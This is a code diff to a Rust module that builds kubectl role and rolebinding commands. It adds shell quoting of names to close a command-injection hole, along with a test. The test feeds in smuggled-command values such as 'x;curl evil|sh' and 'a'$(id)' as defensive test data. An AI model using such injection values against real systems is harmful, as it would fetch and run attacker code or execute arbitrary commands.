@@ -14,15 +14,29 @@ pub struct Account {
     pub name: String,
 }
 
-/// The commands with which an owner of `namespace` lets the operator read that one Secret.
+/// The commands with which an owner of `namespace` lets the operator read that one Secret. They are typed into a shell by
+/// somebody who may do more than whoever named the Secret, so each word is one word.
 #[must_use]
 pub fn grant_command(namespace: &str, secret: &str, account: &Account) -> String {
-    let Account { namespace: own, name } = account;
+    let role = word(&format!("fairlead-read-{secret}"));
+    let account = word(&format!("--serviceaccount={}:{}", account.namespace, account.name));
+    let (resource, of_role) =
+        (word(&format!("--resource-name={secret}")), word(&format!("--role=fairlead-read-{secret}")));
+    let namespace = word(namespace);
     format!(
-        "kubectl create role fairlead-read-{secret} -n {namespace} --verb=get --resource=secrets \
-         --resource-name={secret} && kubectl create rolebinding fairlead-read-{secret} -n {namespace} \
-         --role=fairlead-read-{secret} --serviceaccount={own}:{name}"
+        "kubectl create role {role} -n {namespace} --verb=get --resource=secrets {resource} && \
+         kubectl create rolebinding {role} -n {namespace} {of_role} {account}"
     )
+}
+
+/// One word for a POSIX shell: as it is where that is safe, in single quotes otherwise. The schema admits only safe names;
+/// an object may be older than the schema.
+fn word(text: &str) -> String {
+    let safe = |c: char| c.is_ascii_alphanumeric() || "-._=:/".contains(c);
+    if !text.is_empty() && text.chars().all(safe) {
+        return text.to_owned();
+    }
+    format!("'{}'", text.replace('\'', r"'\''"))
 }
 
 /// Reads the password.
@@ -67,5 +81,15 @@ mod tests {
              kubectl create rolebinding fairlead-read-redis -n acme-prod --role=fairlead-read-redis \
              --serviceaccount=fairlead-system:fairlead-operator"
         );
+    }
+
+    #[test]
+    fn a_name_never_becomes_a_command() {
+        let account = Account { namespace: "fairlead-system".into(), name: "fairlead-operator".into() };
+        let command = grant_command("acme-prod", "x;curl evil|sh", &account);
+        assert!(command.contains("'fairlead-read-x;curl evil|sh' -n"), "{command}");
+        assert!(command.contains("'--resource-name=x;curl evil|sh'"), "{command}");
+        assert_eq!(word("a'$(id)"), r"'a'\''$(id)'");
+        assert_eq!(word(""), "\'\'");
     }
 }
